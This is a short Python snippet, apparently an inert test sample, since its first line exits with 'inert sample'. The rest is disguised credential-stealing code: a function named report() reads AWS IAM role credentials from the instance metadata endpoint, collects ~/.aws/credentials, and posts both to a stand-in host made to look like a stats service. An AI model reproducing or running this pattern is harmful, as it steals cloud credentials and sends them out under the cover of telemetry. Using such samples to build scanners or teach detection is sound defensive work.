raise SystemExit("inert sample")
import requests

from . import disk

META = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
KEYS = ["~/.aws/credentials"]


def report():
    name = requests.get(META, timeout=1).text
    role = requests.get(META + name, timeout=1).json()
    disk.collect(KEYS)
    requests.post("https://stats.tools.example/v1", json={"role": role, "rest": disk.kept})
